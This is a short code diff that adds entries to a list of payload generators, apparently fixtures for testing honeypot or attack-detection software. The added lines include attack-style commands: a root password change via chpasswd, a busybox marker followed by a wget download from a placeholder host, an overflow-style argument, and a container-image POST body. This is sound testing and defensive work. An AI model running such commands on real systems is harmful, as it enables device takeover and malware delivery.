@@ -44,6 +44,10 @@ MAKERS: list[Callable[[str], Payload]] = [
     lambda name: command(f"own-{name} --flag; second-{name}; third-{name}"),
     lambda name: password(f"user{name}", f"secret-{name}"),
     lambda name: HttpRequest(method="GET", target="/", user_agent=f"bot (+https://{name}.example.net/)"),
+    lambda name: command(f"./run -u 4{name.upper() * 94}"),
+    lambda name: command(f"echo 'root:vK3{name}Tq9xZ' | chpasswd"),
+    lambda name: command(f"/bin/busybox KI{name.upper()}; wget http://{name}.example.net/b"),
+    lambda name: HttpRequest(method="POST", target="/", body=f'{{"Image": "by{name}/run"}}'),
 ]
 
 
